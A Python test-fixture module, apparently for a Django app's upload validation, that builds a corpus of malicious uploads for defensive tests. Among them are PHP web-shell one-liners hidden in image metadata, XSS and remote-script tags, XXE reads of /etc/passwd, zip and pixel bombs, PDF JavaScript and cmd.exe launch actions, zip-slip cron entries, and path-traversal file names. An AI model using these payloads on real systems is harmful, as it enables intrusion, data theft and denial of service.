"""The malicious-upload corpus, built in memory at test time (nothing large is committed).

Each ``Sample`` is one file an attacker (or a broken client) might send: its content, the file name and the
content type the request declares, and what must happen:

* ``REFUSE`` — the content is not an acceptable document (wrong or lying type, active content, polyglot,
  bomb, corrupt, encrypted, too big, empty). Every upload entry point refuses it, stores nothing and
  changes no row.
* ``NEUTRALISE`` — the content is a good document but the *name* (or the declared type) is hostile: path
  traversal, absolute paths, NUL and control characters, a right-to-left override, a Windows device name,
  markup, a very long name. The name is never a storage path (files are stored under their SHA-256), and it
  is kept only as display text, cleaned; the declared type is ignored (the stored type comes from the
  content). Django's multipart parser already drops any directory part and the non-printable characters,
  so "refusing" such a name is impossible past the parser — the name only ever reaches us cleaned.

Content is made lazily (``Sample.content(limit)``): the oversize sample needs the entry point's limit, and
nothing is built before a test asks for it. ``multipart`` writes a request body by hand, because Django's
test client strips the directory part of file names itself and could not send the hostile names.
"""

from __future__ import annotations

import functools
import io
import secrets
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass

REFUSE = "refuse"
NEUTRALISE = "neutralise"

MB = 1024 * 1024


@dataclass(frozen=True)
class Sample:
    id: str
    name: str  # the file name as the request sends it (raw: may hold "/", "\\", NUL, bidi controls …)
    build: Callable[[int, str], bytes]  # (the entry point's size limit, a marker making it unique) → bytes
    content_type: str = "application/pdf"
    expect: str = REFUSE
    why: str = ""
    refused_by: str = ""  # "parser": Django's multipart parser refuses the request before any view

    def content(self, limit: int, marker: str = "") -> bytes:
        return self.build(limit, marker or self.id)


# --- good documents ------------------------------------------------------------------------------------------


def pdf(pages: int = 1, *, marker: str = "", size: tuple[float, float] = (595, 842)) -> bytes:
    """A valid PDF of A4 pages; ``marker`` goes in the metadata so each sample's bytes are distinct."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=size[0], height=size[1])
    if marker:
        writer.add_metadata({"/Title": marker})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def image(fmt: str = "JPEG", size: tuple[int, int] = (1240, 1754), *, marker: str = "", **options) -> bytes:
    """A page-sized scan (short side ≥ 1000 px, so counter scans accept it); ``marker`` is drawn on it."""
    from PIL import Image, ImageDraw

    picture = Image.new("RGB", size, "white")
    ImageDraw.Draw(picture).text((40, 40), marker or "Trang 1", fill="black")
    buffer = io.BytesIO()
    picture.save(buffer, fmt, **options)
    return buffer.getvalue()


def csv_statement(marker: str = "") -> bytes:
    """A well-formed payment statement (the reconciliation upload's positive control)."""
    ref = ("9T260302" + "".join(c for c in marker.upper() if c.isalnum()))[:30] or "9T260302X"
    return (
        f"txn_ref,gateway_txn_no,amount,paid_at,status\n{ref},14000009,50000,2026-03-02 11:00:00,00\n"
    ).encode()


# --- hand-made structures ------------------------------------------------------------------------------------


def hand_pdf(extra_root: str = "", *, extra_objects: tuple[str, ...] = (), page_extra: str = "") -> bytes:
    """A minimal PDF written by hand with a correct cross-reference table (to hide things pypdf would not
    write itself)."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {extra_root} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] {page_extra} >>",
        *extra_objects,
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_flood(width: int, height: int) -> bytes:
    """A few dozen bytes whose header declares ``width`` × ``height`` pixels (a decompression bomb)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + png_chunk(b"IEND", b"")
    )


def jpeg_flood(width: int, height: int) -> bytes:
    """A real small JPEG whose frame header is rewritten to declare ``width`` × ``height``."""
    data = bytearray(image("JPEG", (64, 64)))
    sof = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def jpeg_with_segment(jpeg: bytes, marker: int, payload: bytes) -> bytes:
    """``jpeg`` with one more segment (APPn, COM …) right after the start-of-image marker."""
    return jpeg[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload + jpeg[2:]


def exif_with_description(text: bytes) -> bytes:
    """An APP1 Exif payload (little-endian TIFF) whose ImageDescription (0x010E) is ``text``."""
    value = text + b"\x00"
    ifd_offset = 8
    entries = 1
    data_offset = ifd_offset + 2 + entries * 12 + 4
    tiff = b"II*\x00" + struct.pack("<I", ifd_offset)
    tiff += struct.pack("<H", entries)
    tiff += struct.pack("<HHII", 0x010E, 2, len(value), data_offset)
    tiff += struct.pack("<I", 0)
    tiff += value
    return b"Exif\x00\x00" + tiff


def png_with_text(png: bytes, keyword: bytes, text: bytes) -> bytes:
    """``png`` with a tEXt chunk right after IHDR."""
    ihdr_end = 8 + 12 + 13
    return png[:ihdr_end] + png_chunk(b"tEXt", keyword + b"\x00" + text) + png[ihdr_end:]


def zip_of(members: Iterable[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


@functools.cache
def zip_bomb(uncompressed_mb: int = 200) -> bytes:
    """A DOCX-looking archive whose one member inflates to ``uncompressed_mb`` MB of zeros (ratio ≈ 1000:1),
    written in 1 MB chunks so building it never holds the inflated data in memory."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            chunk = b"\x00" * MB
            for _ in range(uncompressed_mb):
                member.write(chunk)
    return buffer.getvalue()


@functools.cache
def nested_zip(depth: int = 8) -> bytes:
    data = b"\x00" * MB
    for level in range(depth):
        data = zip_of([(f"tang-{level}-{copy}.{'zip' if level else 'bin'}", data) for copy in range(4)])
    return data


def xlsx_with_xxe() -> bytes:
    """An office workbook whose shared strings declare an external entity (XXE)."""
    strings = (
        b'<?xml version="1.0"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&xxe;</t></si></sst>'
    )
    return zip_of(
        [
            ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
            ("xl/workbook.xml", b'<?xml version="1.0"?><workbook/>'),
            ("xl/sharedStrings.xml", strings),
        ]
    )


def oversize_pdf(limit: int, marker: str) -> bytes:
    """A valid PDF padded with a PDF comment to exactly ``limit`` + 1 bytes: only its size is wrong."""
    head = pdf(marker=marker)
    body, eof = head.rsplit(b"%%EOF", 1)
    filler = limit + 1 - len(head) - 2
    return body + b"%" + b" " * max(filler, 0) + b"\n%%EOF" + eof


def pypdf_encrypted(user_password: str, owner_password: str) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password=user_password, owner_password=owner_password, algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_attachment() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("hoa-don.exe", b"MZ\x90\x00 not really a program")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


def _const(data: bytes | Callable[[], bytes]) -> Callable[[int, str], bytes]:
    """Content that depends neither on the limit nor on the marker, built once on first use."""
    made = functools.cache(data) if callable(data) else (lambda: data)
    return lambda _limit, _marker: made()


def _good_pdf(_limit: int, marker: str) -> bytes:
    return pdf(marker=marker)


SCRIPT = b"<script>alert(document.cookie)</script>"
PHP = b'<?php system($_GET["c"]); ?>'

# --- the corpus ---------------------------------------------------------------------------------------------

SAMPLES: tuple[Sample, ...] = (
    # Size and emptiness
    Sample("empty", "don.pdf", _const(b""), why="0 byte"),
    Sample("oversize", "don-rat-lon.pdf", oversize_pdf, why="1 byte above the entry point's limit"),
    # Wrong magic bytes: the name and the declared type lie
    Sample(
        "exe-as-pdf", "hoa-don.pdf", _const(b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120 + b"PE\x00\x00")
    ),
    Sample("elf-as-pdf", "scan.pdf", _const(b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120)),
    Sample(
        "html-as-pdf",
        "giay-to.pdf",
        _const(b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"),
        why="declared application/pdf",
    ),
    Sample("html-as-jpeg", "anh.jpg", _const(b"  <html><body onload=alert(1)>"), "image/jpeg"),
    Sample("text-as-pdf", "don.pdf", _const("Đây không phải tệp PDF.".encode())),
    Sample("rtf-as-pdf", "don.pdf", _const(rb"{\rtf1\ansi{\object\objemb data}}")),
    Sample("ole-doc-as-pdf", "don.pdf", _const(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)),
    Sample("pdf-magic-late", "don.pdf", _const(lambda: b"\r\n\r\n" + pdf())),
    Sample("tiff-as-jpeg", "anh.jpg", _const(lambda: image("TIFF", (64, 64))), "image/jpeg"),
    Sample("bmp-as-png", "anh.png", _const(lambda: image("BMP", (64, 64))), "image/png"),
    Sample("gif-as-png", "anh.png", _const(lambda: image("GIF", (64, 64))), "image/png"),
    Sample("webp-as-jpeg", "anh.jpg", _const(lambda: image("WEBP", (64, 64))), "image/jpeg"),
    # SVG: script and external entities
    Sample(
        "svg-script",
        "so-do.svg",
        _const(b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"),
        "image/svg+xml",
    ),
    Sample(
        "svg-xxe-as-png",
        "so-do.png",
        _const(
            b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            b'<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>'
        ),
        "image/png",
    ),
    # Polyglots
    Sample(
        "gif-html-polyglot",
        "anh.jpg",
        _const(b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;" + SCRIPT),
        "image/jpeg",
    ),
    Sample(
        "jpeg-html-comment",
        "anh.jpg",
        _const(lambda: jpeg_with_segment(image("JPEG", (1240, 1754)), 0xFE, SCRIPT)),
        "image/jpeg",
        why="markup in a COM segment at the start",
    ),
    Sample(
        "jpeg-php-exif",
        "anh.jpg",
        _const(lambda: jpeg_with_segment(image("JPEG", (1240, 1754)), 0xE1, exif_with_description(PHP))),
        "image/jpeg",
        why="PHP in the EXIF ImageDescription",
    ),
    Sample(
        "jpeg-script-deep-in-exif",
        "anh.jpg",
        _const(
            lambda: jpeg_with_segment(
                image("JPEG", (1240, 1754)),
                0xE1,
                exif_with_description(b"x" * 4000 + b"<SCRIPT src=//evil.example/x.js></SCRIPT>"),
            )
        ),
        "image/jpeg",
        why="markup past the first kilobyte, inside EXIF",
    ),
    Sample(
        "png-php-text-chunk",
        "anh.png",
        _const(lambda: png_with_text(image("PNG", (1240, 1754)), b"Comment", PHP)),
        "image/png",
    ),
    Sample(
        "jpeg-then-zip",
        "anh.jpg",
        _const(lambda: image("JPEG", (1240, 1754)) + zip_of([("shell.php", PHP)])),
        "image/jpeg",
    ),
    Sample(
        "png-then-html",
        "anh.png",
        _const(lambda: image("PNG", (1240, 1754)) + b"<html>" + SCRIPT),
        "image/png",
    ),
    Sample(
        "pdf-then-zip", "don.pdf", _const(lambda: pdf() + zip_of([("payload.exe", b"MZ" + b"\x00" * 64)]))
    ),
    Sample("pdf-html-head", "don.pdf", _const(b"%PDF-1.4\n<html>" + SCRIPT + b"</html>\n%%EOF\n")),
    # Active PDF content
    Sample(
        "pdf-openaction-js",
        "don.pdf",
        _const(
            lambda: hand_pdf("/OpenAction 4 0 R", extra_objects=("<< /S /JavaScript /JS (app.alert(1)) >>",))
        ),
    ),
    Sample(
        "pdf-js-hex-escaped",
        "don.pdf",
        _const(lambda: hand_pdf("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")),
    ),
    Sample("pdf-launch", "don.pdf", _const(lambda: hand_pdf("/OpenAction << /S /L#61unch /F (cmd.exe) >>"))),
    Sample(
        "pdf-link-js",
        "don.pdf",
        _const(
            lambda: hand_pdf(
                page_extra="/Annots [4 0 R]",
                extra_objects=(
                    "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /J#61vaScript /J#53 (x) >> >>",
                ),
            )
        ),
    ),
    Sample(
        "pdf-submitform",
        "don.pdf",
        _const(lambda: hand_pdf("/OpenAction << /S /SubmitForm /F (http://x) >>")),
    ),
    Sample("pdf-embedded-file", "don.pdf", _const(pdf_with_attachment)),
    Sample(
        "pdf-xfa",
        "don.pdf",
        _const(
            lambda: hand_pdf(
                "/AcroForm << /Fields [] /XFA 4 0 R >>",
                extra_objects=("<< /Length 0 >>\nstream\n\nendstream",),
            )
        ),
    ),
    # Encrypted, truncated, corrupt PDFs
    Sample("pdf-encrypted-password", "don.pdf", _const(lambda: pypdf_encrypted("matkhau", "chu"))),
    Sample("pdf-encrypted-owner-only", "don.pdf", _const(lambda: pypdf_encrypted("", "chu-so-huu"))),
    Sample("pdf-truncated", "don.pdf", _const(lambda: truncated(pdf(3)))),
    Sample("pdf-corrupt", "don.pdf", _const(b"%PDF-1.4\n" + bytes(range(256)) * 8 + b"\n%%EOF\n")),
    Sample("pdf-magic-only", "don.pdf", _const(b"%PDF-1.7\n%%EOF\n")),
    # Archives and office files (none is an accepted kind: refused by content, never inflated)
    Sample(
        "zip-bomb-docx",
        "to-khai.docx",
        _const(lambda: zip_bomb()),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    Sample("nested-zip", "ho-so.zip", _const(lambda: nested_zip()), "application/zip"),
    Sample("zip-as-pdf", "ho-so.pdf", _const(lambda: zip_of([("../../etc/cron.d/x", b"* * * * * id")]))),
    Sample(
        "xlsx-xxe",
        "bang-ke.xlsx",
        _const(xlsx_with_xxe),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    # Pixel floods and broken images
    Sample("png-pixel-flood", "anh.png", _const(lambda: png_flood(50_000, 50_000)), "image/png"),
    Sample("jpeg-pixel-flood", "anh.jpg", _const(lambda: jpeg_flood(50_000, 50_000)), "image/jpeg"),
    Sample("png-flood-48mp", "anh.png", _const(lambda: png_flood(8000, 6000)), "image/png"),
    Sample("jpeg-truncated", "anh.jpg", _const(lambda: image("JPEG", (1240, 1754))[:6000]), "image/jpeg"),
    Sample("png-truncated", "anh.png", _const(lambda: image("PNG", (1240, 1754))[:-300]), "image/png"),
    # A name that is nothing once the directory part is dropped: Django's parser drops the file.
    Sample("name-dotdot-only", "..", _good_pdf, why="the parser discards the file: nothing chosen"),
    # A name longer than a part's headers may be (1 KB): Django refuses the whole request (400).
    Sample("name-header-overflow", "đơn-" + "x" * 1200 + ".pdf", _good_pdf, refused_by="parser"),
    # Hostile names (and a lying declared type) on a good document: neutralised, not refused
    Sample("name-traversal", "../../etc/passwd.pdf", _good_pdf, expect=NEUTRALISE),
    Sample("name-backslash-traversal", "..\\..\\x.pdf", _good_pdf, expect=NEUTRALISE),
    Sample("name-absolute", "/var/www/html/shell.pdf", _good_pdf, expect=NEUTRALISE),
    Sample("name-windows-absolute", "C:\\Windows\\System32\\don.pdf", _good_pdf, expect=NEUTRALISE),
    Sample("name-nul", "don.pdf\x00.exe", _good_pdf, expect=NEUTRALISE),
    Sample("name-rtl-override", "hoa-don\u202efdp.exe", _good_pdf, expect=NEUTRALISE),
    Sample("name-control-chars", "to\x1b[31mkhai\x07\x08.pdf", _good_pdf, expect=NEUTRALISE),
    Sample("name-windows-reserved", "CON.pdf", _good_pdf, expect=NEUTRALISE),
    Sample("name-markup", "<img src=x onerror=alert(1)>.pdf", _good_pdf, expect=NEUTRALISE),
    Sample("name-long", "đơn-đề-nghị-" + "x" * 230 + ".pdf", _good_pdf, expect=NEUTRALISE),
    Sample("name-url-encoded-traversal", "%2e%2e%2f%2e%2e%2fetc%2fpasswd.pdf", _good_pdf, expect=NEUTRALISE),
    Sample("declared-type-lies", "trang.html", _good_pdf, "text/html", expect=NEUTRALISE),
)

REFUSED = tuple(s for s in SAMPLES if s.expect == REFUSE)
NEUTRALISED = tuple(s for s in SAMPLES if s.expect == NEUTRALISE)


def sample(sample_id: str) -> Sample:
    return next(s for s in SAMPLES if s.id == sample_id)


# --- request bodies ------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Part:
    """One file part of a multipart body."""

    field: str
    filename: str
    content: bytes
    content_type: str = "application/octet-stream"


def _quoted(filename: str) -> bytes:
    """The file name as a browser would put it in ``filename="…"`` (RFC 7578 / HTML: only the quote, CR and
    LF are escaped) — everything else, NUL and controls included, goes raw, as an attacker may send it."""
    raw = filename.encode("utf-8", "surrogatepass")
    return raw.replace(b'"', b"%22").replace(b"\r", b"%0D").replace(b"\n", b"%0A")


def multipart(fields: Iterable[tuple[str, str]], parts: Iterable[Part]) -> tuple[bytes, str]:
    """A ``multipart/form-data`` body and its content type."""
    boundary = "----motcua-corpus-" + secrets.token_hex(12)
    dash = f"--{boundary}".encode()
    out = bytearray()
    for name, value in fields:
        out += dash + b"\r\n"
        out += f'Content-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
        out += str(value).encode() + b"\r\n"
    for part in parts:
        out += dash + b"\r\n"
        out += f'Content-Disposition: form-data; name="{part.field}"; filename="'.encode()
        out += _quoted(part.filename) + b'"\r\n'
        out += f"Content-Type: {part.content_type}\r\n\r\n".encode()
        out += part.content + b"\r\n"
    out += dash + b"--\r\n"
    return bytes(out), f"multipart/form-data; boundary={boundary}"
